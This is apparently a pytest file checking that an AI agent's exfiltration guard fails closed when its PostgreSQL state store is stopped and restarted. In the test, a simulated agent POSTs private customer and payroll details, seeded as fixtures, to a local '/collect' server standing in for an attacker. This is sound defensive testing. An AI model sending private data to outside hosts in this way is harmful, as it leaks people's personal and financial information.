"""The exfiltration guard under faults: its state store (a real PostgreSQL of the test's own) stopped
mid-run with ``pg_ctl stop -m immediate``, then restarted.

Guarantees:

* while the database is down, a sink (an ``http.request`` to the attacker's server) is
  ``unavailable``, retryable, naming the store: nothing reaches the attacker (fail closed, never
  allowed);
* a private read during the outage still returns its result (reads keep working) and is indexed in
  the worker's memory: once the database is back, data from it and from the reads indexed before the
  outage is still found (sent to approval naming the read), the agent's own words pass;
* other sessions are unaffected.
"""

from __future__ import annotations

from pathlib import Path

from agent_legs import Legs

SECRET = "Maria Gonzalez, IBAN DE44 5001 0517 5407 3249 31"


def test_the_store_stopped_mid_run_fails_closed_and_loses_no_read(tmp_path: Path, private_postgres, http_server) -> None:
    url = private_postgres.create_database()
    ws = tmp_path / "ws"
    (ws / "private").mkdir(parents=True)
    (ws / "private" / "a.txt").write_text(f"Customer record: {SECRET}.\n")
    (ws / "private" / "b.txt").write_text("Payroll: Jonas Weber gross 8,412.50 EUR, pension id PX-7730-1182-55.\n")
    asked: list[str] = []
    with Legs(
        workspace=ws,
        state_dir=tmp_path / "st",
        policy={"allow": ["files.*", "http.request"], "network": {"allow_hosts": ["*"], "allow_private": True}},
        settings={"state": {"url": url, "timeout_s": 1}},
        approver=lambda r: asked.append(r.reason) or False,
    ) as legs:

        def send(body: str, session: str = "s"):
            return legs.run("http.request", {"method": "POST", "url": http_server.url("/collect"), "body": body}, session=session)

        assert legs.run("files.read", {"path": "private/a.txt"}, session="s", call_id="read-1").ok

        private_postgres.stop()
        down = send(SECRET)
        assert down.error is not None and down.error.type == "unavailable" and down.error.retryable, down
        assert f"PostgreSQL at 127.0.0.1:{private_postgres.port}" in down.error.message
        read = legs.run("files.read", {"path": "private/b.txt"}, session="s", call_id="read-2")
        assert read.ok and "Jonas Weber" in read.output  # reads keep working
        assert http_server.requests == [] and asked == []

        private_postgres.start()
        indexed = send(f"fyi {SECRET}")
        during = send("fyi: pension id PX-7730-1182-55")
        own = send("Thanks, the meeting is on Tuesday.")
    assert indexed.error is not None and indexed.error.type == "approval_denied"
    assert "private data read by files.read call read-1" in asked[0]
    assert during.error is not None and "private data read by files.read call read-2" in asked[1]
    assert own.ok and len(asked) == 2
    assert [r.body.decode() for r in http_server.requests] == ["Thanks, the meeting is on Tuesday."]
